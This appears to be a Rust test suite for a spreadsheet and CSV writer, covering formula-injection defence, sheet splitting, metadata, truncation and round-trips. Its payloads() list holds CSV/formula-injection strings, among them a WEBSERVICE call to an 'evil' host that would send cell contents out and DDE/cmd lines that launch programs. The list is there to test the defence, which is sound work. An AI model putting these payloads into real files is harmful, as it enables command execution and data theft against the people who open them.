//! What is written is what is read, and nothing of it is a formula.

mod built;

use std::io::Read as _;

use chrono::{NaiveDate, NaiveDateTime};
use onehall_sheets::{
    About, Cell, CsvWriter, Heading, Limits, Reader, Row, SheetPlan, Writer, Written, is_cut, is_formula,
};
use proptest::prelude::*;

/// Texts that a program would take for a formula, or that try to look harmless.
fn payloads() -> Vec<String> {
    let bare = [
        "1+1",
        "HYPERLINK(\"http://evil\",\"x\")",
        "WEBSERVICE(\"http://evil/?\"&A1)",
        "cmd|'/C calc'!A0",
        "SUM(1+1)*cmd|' /C calc'!A0",
        "IMPORTXML(\"http://evil\",\"//a\")",
        "DDE(\"cmd\";\"/C calc\";\"x\")",
        "INDIRECT(\"A1\")",
    ];
    let leads = [
        "=",
        "+",
        "-",
        "@",
        "\t=",
        "\r=",
        "\n=",
        " =",
        "\u{3000}=",
        "＝",
        "＋",
        "－",
        "＠",
        "\u{a0}=",
        "\0=",
        "\u{200b}=",
        "\u{feff} =",
        " \t\u{b}=",
    ];
    let all = leads.iter().flat_map(|lead| bare.iter().map(move |rest| format!("{lead}{rest}")));
    all.chain(["=", "+", "-", "@", "\t", "\r", "\n", "-2+3", "+49 30 1234", "@name"].map(str::to_owned)).collect()
}

fn written(cells: &[Vec<Cell>]) -> Vec<u8> {
    let folder = tempfile::tempdir().expect("a folder");
    let mut writer = Writer::new(folder.path(), &About::default()).expect("a writer");
    writer.sheet(SheetPlan::of("data", vec![Heading::of("h")])).expect("a sheet");
    for row in cells {
        writer.row(row, &[]).expect("a row");
    }
    let mut out = Vec::new();
    writer.finish(&mut out).expect("a file");
    out
}

fn part(bytes: &[u8], name: &str) -> String {
    // the library's own archive reader is not to be believed here: another one
    let mut archive = zip_reader(bytes);
    let mut text = String::new();
    archive.by_name(name).expect("the part").read_to_string(&mut text).expect("text");
    text
}

fn zip_reader(bytes: &[u8]) -> zip::ZipArchive<std::io::Cursor<&[u8]>> {
    zip::ZipArchive::new(std::io::Cursor::new(bytes)).expect("an archive")
}

#[test]
fn no_payload_becomes_a_formula_in_a_workbook() {
    let payloads = payloads();
    assert!(payloads.len() >= 80);
    let rows: Vec<Vec<Cell>> = payloads.iter().map(|p| vec![Cell::text(p)]).collect();
    let bytes = written(&rows);
    let sheet = part(&bytes, "xl/worksheets/sheet1.xml");
    assert!(!sheet.contains("<f>") && !sheet.contains("<f ") && !sheet.contains("hyperlink"), "{sheet}");
    assert!(part(&bytes, "xl/styles.xml").contains("quotePrefix=\"1\""));
    let read: Vec<_> = built::read(&bytes).unwrap().into_iter().skip(1).collect();
    let kept: Vec<_> = payloads.iter().filter(|p| !p.trim().is_empty()).collect();
    assert_eq!(read.len(), kept.len());
    for (row, payload) in read.iter().zip(kept) {
        assert_eq!(row.cells, [Cell::text(payload)]);
    }
}

#[test]
fn no_payload_becomes_a_formula_in_text() {
    for payload in payloads() {
        assert!(is_formula(&payload), "{payload:?}");
        let mut writer = CsvWriter::new(Vec::new()).unwrap();
        writer.row(&[Cell::text(&payload)]).unwrap();
        let text = String::from_utf8(writer.finish().unwrap()).unwrap();
        let field = text.trim_start_matches('\u{feff}').trim_start_matches('"');
        assert!(field.starts_with('\''), "{text:?}");
    }
    for harmless in ["", "a=1", "2026-03-01", "007", "张三", "(1)", "'"] {
        assert!(!is_formula(harmless), "{harmless}");
    }
}

#[test]
fn a_full_sheet_is_followed_by_another_with_the_same_headings() {
    let folder = tempfile::tempdir().unwrap();
    let mut writer = Writer::new(folder.path(), &About::default()).unwrap();
    let headings = vec![Heading::of("n")];
    writer.sheet(SheetPlan { name: "data".to_owned(), headings, rows_max: 3 }).unwrap();
    for n in 0..7 {
        writer.row(&[Cell::number(f64::from(n))], &[]).unwrap();
    }
    let mut out = Vec::new();
    assert_eq!(writer.finish(&mut out).unwrap(), Written { rows: 7, sheets: 3, cut: 0 });
    let mut reader = Reader::open(&out, &Limits::default()).unwrap();
    let mut seen = Vec::new();
    let info =
        reader.inspect(|sheet, row| seen.push(format!("{sheet}:{}={}", row.number, row.cell(0).shown()))).unwrap();
    assert_eq!(info.sheets.iter().map(|s| s.name.as_str()).collect::<Vec<_>>(), ["data", "data (2)", "data (3)"]);
    assert_eq!(seen, ["0:1=n", "0:2=0", "0:3=1", "0:4=2", "1:1=n", "1:2=3", "1:3=4", "1:4=5", "2:1=n", "2:2=6"]);
}

#[test]
fn a_file_says_who_made_it_when_and_why() {
    let folder = tempfile::tempdir().unwrap();
    let about = About {
        title: "人员".to_owned(),
        author: "王老师".to_owned(),
        created: NaiveDate::from_ymd_opt(2026, 3, 1).unwrap().and_hms_opt(8, 30, 0).unwrap(),
        trace: "T-0123".to_owned(),
        sheet: "说明".to_owned(),
        lines: vec![("原因".to_owned(), "=年度检查".to_owned())],
    };
    let mut writer = Writer::new(folder.path(), &about).unwrap();
    writer.sheet(SheetPlan::of("人员", vec![Heading::of("学号")])).unwrap();
    let mut out = Vec::new();
    writer.finish(&mut out).unwrap();
    let core = part(&out, "docProps/core.xml");
    assert!(core.contains("王老师") && core.contains("2026-03-01T08:30:00Z") && core.contains("年度检查"), "{core}");
    assert!(part(&out, "docProps/custom.xml").contains("T-0123"));
    let mut reader = Reader::open(&out, &Limits::default()).unwrap();
    assert_eq!(reader.sheets(), [("人员", false), ("说明", false)]);
    let mut row = Row::default();
    assert!(reader.rows(1).unwrap().next(&mut row).unwrap());
    assert_eq!(row.cells, [Cell::text("原因"), Cell::text("=年度检查")]);
}

#[test]
fn templates_have_notes_lists_and_marks() {
    let folder = tempfile::tempdir().unwrap();
    let mut writer = Writer::new(folder.path(), &About::default()).unwrap();
    let choices: Vec<String> = (0..300).map(|i| format!("学院{i}")).collect();
    let heading = Heading { note: "必填".to_owned(), must: true, choices, ..Heading::of("学院") };
    writer.sheet(SheetPlan::of("t", vec![heading.clone(), Heading::of("x"), heading])).unwrap();
    writer.row(&[Cell::text("学院1"), Cell::Empty, Cell::text("?")], &[1, 2]).unwrap();
    let mut out = Vec::new();
    writer.finish(&mut out).unwrap();
    let sheet = part(&out, "xl/worksheets/sheet1.xml");
    assert!(sheet.contains("Lists!$A$1:$A$300") && !sheet.contains("$B$"), "{sheet}");
    assert!(part(&out, "xl/comments1.xml").contains("必填"));
    let reader = Reader::open(&out, &Limits::default()).unwrap();
    assert_eq!(reader.sheets(), [("t", false), ("Lists", true)]);
    // both marked cells have a format of their own, the empty one too
    assert!(sheet.contains("<c r=\"B2\" s=") && sheet.contains("<c r=\"C2\" s="), "{sheet}");
}

#[test]
fn long_texts_are_cut_with_a_sign() {
    let whole = "学".repeat(32_767);
    let bytes = written(&[vec![Cell::text(&whole)], vec![Cell::text(format!("{whole}学"))]]);
    let rows = built::read(&bytes).unwrap();
    assert_eq!(rows[1].cells, [Cell::text(whole.clone())]);
    assert_eq!(rows[2].cells, [Cell::text(format!("{}…", "学".repeat(32_766)))]);
    for (text, cut) in [(rows[2].cells[0].shown().into_owned(), true), (whole.clone(), false), ("…".to_owned(), false)]
    {
        assert_eq!(is_cut(&text), cut, "{} characters", text.chars().count());
    }
}

#[test]
fn numbers_that_programs_would_cut_are_written_as_text() {
    let long = Cell::Number(onehall_sheets::Number { value: 1.1e17, text: "110101199001011234".to_owned() });
    let zeros = Cell::Number(onehall_sheets::Number { value: 42.0, text: "0042".to_owned() });
    let rows = built::read(&written(&[vec![long, zeros, Cell::number(0.5), Cell::number(-3.0)]])).unwrap();
    assert_eq!(
        rows[1].cells,
        [Cell::text("110101199001011234"), Cell::text("0042"), Cell::number(0.5), Cell::number(-3.0)]
    );
}

fn cells() -> impl Strategy<Value = Cell> {
    prop_oneof![
        Just(Cell::Empty),
        "\\PC{0,20}".prop_map(Cell::Text),
        ".{0,12}".prop_map(Cell::Text),
        "(_x[0-9A-F]{4}_|_|x){1,4}".prop_map(Cell::Text),
        any::<i32>().prop_map(|n| Cell::number(f64::from(n) / 4.0)),
        any::<bool>().prop_map(Cell::Bool),
        (-2_000_000_000_i64..200_000_000_000).prop_map(|s| Cell::Date(
            chrono::DateTime::from_timestamp(s, 0).map(|at| at.naive_utc()).unwrap_or_default()
        )),
    ]
}

/// What comes back: an empty text is nothing, XML has no U+FFFE and no U+FFFF.
fn expected(cell: &Cell) -> Cell {
    match cell {
        Cell::Text(text) if text.is_empty() => Cell::Empty,
        Cell::Text(text) => Cell::text(text.replace(['\u{fffe}', '\u{ffff}'], "\u{fffd}")),
        cell => cell.clone(),
    }
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(64))]
    #[test]
    fn cells_come_back_as_they_were(row in proptest::collection::vec(cells(), 1..8)) {
        let mut cells = vec![Cell::text("first")];
        cells.extend(row);
        let rows = built::read(&written(std::slice::from_ref(&cells))).unwrap();
        let mut wanted: Vec<Cell> = cells.iter().map(expected).collect();
        while wanted.last() == Some(&Cell::Empty) {
            wanted.pop();
        }
        prop_assert_eq!(&rows[1].cells, &wanted);
    }
}

#[test]
fn dates_have_formats_of_dates() {
    let at = |text: &str| Cell::Date(NaiveDateTime::parse_from_str(text, "%Y-%m-%d %H:%M:%S").unwrap());
    let cells = vec![
        at("2026-03-01 00:00:00"),
        at("2026-03-01 08:00:00"),
        at("1899-12-31 08:00:00"),
        at("1850-01-01 00:00:00"),
    ];
    let rows = built::read(&written(std::slice::from_ref(&cells))).unwrap();
    assert_eq!(rows[1].cells[..3], cells[..3]);
    assert_eq!(rows[1].cells[3], Cell::text("1850-01-01"));
}
